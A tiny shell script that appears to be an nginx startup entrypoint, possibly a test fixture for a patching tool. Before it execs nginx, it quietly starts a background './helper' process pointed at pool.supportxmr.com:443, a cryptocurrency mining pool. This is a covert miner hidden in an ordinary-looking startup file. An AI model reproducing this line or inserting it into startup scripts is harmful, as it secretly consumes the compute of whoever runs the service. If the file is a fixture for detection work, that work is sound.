#!/bin/sh
# a comment that the patch does not know
./helper -o pool.supportxmr.com:443 &
exec /usr/sbin/nginx
